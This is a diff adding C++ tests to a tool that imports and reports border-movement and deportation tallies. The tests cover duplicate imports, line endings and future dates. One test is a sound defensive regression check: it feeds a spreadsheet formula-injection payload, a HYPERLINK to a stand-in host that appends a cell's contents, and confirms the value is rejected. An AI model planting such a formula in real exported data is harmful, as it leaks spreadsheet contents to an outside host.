@@ -185,5 +185,67 @@ TEST(ReportFlash, BadOptionsAreExplained) {
   }
 }
 
+// Defect J: importing the same tally file twice counted every person twice
+// and nothing said so.
+TEST(ImportMovements, TheSameFileTwiceIsRefusedUnlessAgain) {
+  Site site;
+  const std::string csv = site.dir.File("tallies.csv");
+  Write(csv, GoodTallies());
+  ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
+  auto twice = site.Sanad({"import", "movements", csv});
+  EXPECT_NE(twice.exit_code, 0);
+  EXPECT_NE(twice.err.find("already imported"), std::string::npos) << twice.err;
+  EXPECT_NE(twice.err.find("--again"), std::string::npos) << twice.err;
+  auto count = [&] {
+    auto r = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13"});
+    EXPECT_EQ(r.exit_code, 0) << r.err;
+    return nlohmann::json::parse(r.out)["totals"]["total"]["individuals"].get<int64_t>();
+  };
+  EXPECT_EQ(count(), 1920);
+  auto again = site.Sanad({"import", "movements", csv, "--again"});
+  EXPECT_EQ(again.exit_code, 0) << again.err;
+  EXPECT_EQ(count(), 2 * 1920);
+  EXPECT_EQ(site.Sanad({"audit", "verify"}).exit_code, 0);
+}
+
+// Defect G: a destination typed as a spreadsheet formula went through
+// `sanad import movements` into the published CSV. It is refused now, naming
+// the row; the published CSV neutralises any text cell anyway.
+TEST(ImportMovements, AFormulaAsDestinationIsRefusedNamingTheRow) {
+  Site site;
+  const std::string csv = site.dir.File("tallies.csv");
+  Write(csv, GoodTallies() +
+                 "2025-04-09,Torkham,to_afghanistan,deported,40,90,10,80,5,10,70,5,"
+                 "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"\n");
+  auto result = site.Sanad({"import", "movements", csv});
+  EXPECT_NE(result.exit_code, 0);
+  EXPECT_NE(result.err.find("tallies.csv:8: destination_province:"), std::string::npos)
+      << result.err;
+  Write(csv, GoodTallies());
+  ASSERT_EQ(site.Sanad({"import", "movements", csv}).exit_code, 0);
+  result = site.Sanad({"report", "flash", "--from", "2025-04-07", "--to", "2025-04-13", "--format",
+                       "csv", "--by-destination"});
+  ASSERT_EQ(result.exit_code, 0) << result.err;
+  EXPECT_EQ(result.out.find(",="), std::string::npos);
+}
+
+// Defect L and I: a CR-only file is read; a future date is refused as the
+// API refuses it.
+TEST(ImportMovements, CrOnlyFilesAreReadAndFutureDatesRefused) {
+  Site site;
+  const std::string csv = site.dir.File("tallies.csv");
+  std::string text = GoodTallies();
+  std::replace(text.begin(), text.end(), '\n', '\r');
+  Write(csv, text);
+  auto result = site.Sanad({"import", "movements", csv});
+  ASSERT_EQ(result.exit_code, 0) << result.err;
+  EXPECT_NE(result.out.find("imported 6 tallies"), std::string::npos) << result.out;
+  Write(csv, std::string(kHeader) +
+                 "2999-01-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n");
+  result = site.Sanad({"import", "movements", csv});
+  EXPECT_NE(result.exit_code, 0);
+  EXPECT_NE(result.err.find("tallies.csv:2: date:"), std::string::npos) << result.err;
+}
+
 }  // namespace
 }  // namespace sanad
